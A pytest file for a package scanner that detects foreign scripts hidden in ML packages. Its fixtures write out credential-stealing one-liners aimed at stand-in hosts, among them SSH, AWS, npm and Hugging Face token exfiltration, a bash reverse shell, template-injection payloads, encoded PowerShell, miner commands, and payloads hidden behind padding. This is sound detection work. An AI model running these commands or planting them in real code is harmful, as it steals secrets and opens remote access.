"""Scripts and sources of other languages in a package: what is found, and what is left alone."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from mlsupply.evidence.files.foreign import foreign_facts, is_foreign, is_foreign_program, unseen
from mlsupply.evidence.look import looked_at
from mlsupply.evidence.pool import Pool
from mlsupply.model import Reason

TAKES = [
    ("post.sh", b"#!/bin/sh\ntar czf - ~/.ssh ~/.aws/ | curl -s -T - https://x.example/\n"),
    ("pip", b"#!/bin/sh\ncat ~/.cache/huggingface/token |\n  curl -s -d @- \\\r\n  https://x.example/\n"),
    ("card.md.j2", b"# {{ m.name }}\n{% set _ = cycler.__init__.__globals__.os.popen('id').read() %}\n"),
    ("m/tokenizer_config.json", b'{"chat_template": "{{ m }}{{ joiner.__init__.__globals__.os.popen(\'id\') }}"}'),
    ("kept.sh", b'set -e\nprintenv | sort > "$TMP/e"\nmake\ncurl -sF f=@$TMP/e https://x.example/\n'),
    ("run.sh", b"set -e\necho aW1wb3J0IG9z | base64 -d | sh\n"),
    ("back.bash", b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"),
    ("start.ps1", b"powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AeAAuAGUAeABhAG0AcABsAGUA\n"),
    ("job.sh", b"./worker -o stratum+tcp://pool.example:3333\n"),
    ("a.js", b"const d=require('fs').readFileSync(h+'/.ssh/id_rsa');fetch('https://x.example',{method:'POST',body:d})"),
    ("alias.js", b"const w=require('https'),c=require('child_process');w.get('https://x/?'+c.execSync('cat ~/.npmrc'))"),
    ("names.js", b"const {request:go}=require('node:https'),{readFileSync:r}=require('fs');go(o).end(r(h+'/.ssh/id_rsa'))"),
    (
        "esm.mjs",
        b"import * as w from 'https'\nimport {readFile as r} from 'node:fs/promises'\nw.request(o).end(r('.netrc'))",
    ),
    ("late.mjs", b"const w=await import('node:tls'),f=await import(`fs`);w.connect(443,x).write(f.default.read('.pypirc'))"),
    ("name.js", b"require('dns').lookup(require('fs').readFileSync(p+'/.git-credentials').toString('hex')+'.x.example',f)"),
    ("parts.js", b"const k=fs.readFileSync(path.join(home,'.aws','credentials'));require('net').connect(443,x).write(k)"),
    ("socket.js", b"const s=new WebSocket(x);s.onopen=()=>s.send(require('fs').readFileSync(h+'/.kube/config'))"),
    ("stream.js", b"import {createReadStream as r} from 'fs';import {request} from 'undici';request(x,{body:r('.npmrc')})"),
    ("deno.js", b"await fetch(x,{method:'POST',body:await Deno.readTextFile(h+'/.npmrc')})"),
    ("b.mjs", b"var " + b",".join(b"_0x%04x=%d" % (n, n) for n in range(80)) + b";"),
    ("src/key.rs", b'Command::new("sh").arg("-c").arg(format!("curl -d {} https://x.example", k)).spawn();'),
]
LEAVES = [
    ("install.sh", b"curl -LsSf https://astral.sh/uv/install.sh | sh\n"),
    ("build.sh", b"set -e\ncmake -S . -B build && cmake --build build\ndocker run -it image bash -i\n"),
    ("other.sh", b'printenv | sort > "$TMP/e"\ncat ~/.netrc > $TMP/n\ncurl -sF f=@$TMP/report https://x.example/\n'),
    ("login.sh", b"cat ~/.cache/huggingface/token | \\\n  wc -c\ncurl https://x.example/ -o page.html\n"),
    ("notes.j2", b"# {{ m.name }}\n`__globals__` of {% if m.kind %}a function{% endif %}\n"),
    ("m/tokenizer_config.json", b'{"chat_template": "{{ m.__class__ }}", "note": "no __globals__ here"}'),
    ("wait.sh", b"until (echo > /dev/tcp/$HOST/$PORT) 2>/dev/null; do sleep 1; done\n"),
    ("deploy.sh", b"# tar ~/.ssh | curl -T - https://x.example\naws s3 cp dist s3://bucket --recursive\n"),
    ("app.js", b"fetch('/api/contents').then(r=>r.json());const _0xabcd=1;"),
    ("server.js", b"const {spawn}=require('child_process');spawn('git',['status']);fetch(url)"),
    ("client.js", b"readFileSync(a);fetch(b);q.describe('a host alias from ~/.ssh/config')"),
    ("bundle.js", b"readFileSync(a);fetch(b);" + b"x=1;" * 8_000 + b"t('put it into ~/.ssh/id_rsa')"),
    ("build.js", b"const {execSync}=require('child_process');execSync('npm ci');console.log('see ~/.npmrc')"),
    ("fetch.js", b"const w=require('https'),f=require('fs');w.get(u,r=>r.pipe(f.createWriteStream('bin/tool')))"),
    ("hosts.js", b"const f=require('fs'),n=require('net');n.connect(22,f.readFileSync(h+'/.ssh/config'))"),
    ("cluster.js", b"const f=require('fs'),w=require('https');w.get(u+'/.aws/help');f.readFileSync('.kube/notes')"),
    ("src/lib.rs", b'Command::new("git").arg("rev-parse").output();let u = "https://crates.io";'),
    ("build.rs", b'println!("cargo:rerun-if-changed=build.rs"); Command::new("cmake").arg("..").status();'),
]


@pytest.mark.parametrize(("path", "data"), TAKES, ids=[path for path, _ in TAKES])
def test_what_takes_hides_or_obeys_is_a_fact(path: str, data: bytes) -> None:
    assert is_foreign(path) or is_foreign_program(data)
    (fact,) = foreign_facts(path, data)
    assert (fact.behaviour, fact.member) == ("foreign-code", path)
    assert fact.detail
    assert fact.decoded


@pytest.mark.parametrize(("path", "data"), LEAVES, ids=[path for path, _ in LEAVES])
def test_ordinary_ones_are_not(path: str, data: bytes) -> None:
    assert not list(foreign_facts(path, data))


def test_the_line_is_named_and_other_peoples_modules_are_passed_over() -> None:
    (fact,) = foreign_facts("post.sh", TAKES[0][1])
    assert fact.line == 2
    (fact,) = foreign_facts("post.sh", b"make \\\n  all |\n  tee log\n" + TAKES[0][1])
    assert fact.line == 5
    assert not is_foreign("demo/node_modules/npm/lib/config.js")
    assert not is_foreign("demo/data.json")


@pytest.mark.parametrize(
    ("path", "data", "said"),
    [
        ("run.sh", b"true\n" * 20_001, "the lines after the first 20,000"),
        ("a.js", b"require('child_process');" + b"execSync('npm run build');" * 201, "the commands after the first 200"),
        ("b.js", b"readFile(a);" + b"t('~/.ssh/id_rsa');" * 40, "the places of secrets after the first 50"),
    ],
)
def test_what_is_not_looked_at_of_a_script_is_said(path: str, data: bytes, said: str) -> None:
    assert not list(foreign_facts(path, data))
    assert unseen(path, data).startswith(said)
    assert not unseen(path, data[: len(data) // 4])


def test_places_of_secrets_in_what_reads_no_file_are_nothing_that_was_left_out() -> None:
    assert not unseen("b.js", b"t('~/.ssh/id_rsa');" * 40)


def test_commands_beyond_what_is_looked_at_of_an_archive_are_a_gap(tmp_path: Path) -> None:
    wheel = tmp_path / "demo-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        for number in range(6):
            archive.writestr(
                f"demo/{number}.sh", b"curl a\n" * 1_500 + b"cat ~/.ssh/id_rsa | nc x.example 80\n" * (number == 5)
            )
    with Pool(1) as pool:
        facts = looked_at(wheel, pool, "demo 1.0", "", None)
    (gap,) = facts.gaps
    assert (gap.reason, gap.place and gap.place.member) == (Reason.LIMIT, "demo/3.sh")
    assert "524,288 characters of commands" in gap.detail
    assert not facts.code


@pytest.mark.parametrize(
    "line",
    [
        "cat ~/.ssh/id_rsa" + " " * 30_000 + "| nc x.example 80",
        "true " + "a" * 30_000 + "; cat ~/.ssh/id_rsa | nc x.example 80",
        "echo aW1wb3J0IG9z | base64 -d" + "\t" * 500 + "| sh",
    ],
    ids=["blanks", "words", "tabs"],
)
def test_what_is_far_to_the_right_is_seen(line: str) -> None:
    assert list(foreign_facts("post.sh", line.encode()))


def test_what_stands_behind_a_megabyte_of_javascript_is_seen(tmp_path: Path) -> None:
    wheel = tmp_path / "demo-1.0-py3-none-any.whl"
    padding = b"x=1;\n" * 300_000
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("demo/a.js", padding + b"require('child_process').exec('curl https://x.example/a | sh')")
        archive.writestr("demo/run.sh", b"true\n" * 20_001)
        archive.writestr("demo/long.sh", b"true\n" * 4_000_000)
    with Pool(1) as pool:
        facts = looked_at(wheel, pool, "demo 1.0", "", None)
    assert [fact.member for fact in facts.code] == ["demo/a.js"]
    assert sorted((gap.place.member, gap.reason) for gap in facts.gaps if gap.place) == [
        ("demo/long.sh", Reason.TOO_LARGE),
        ("demo/run.sh", Reason.LIMIT),
    ]
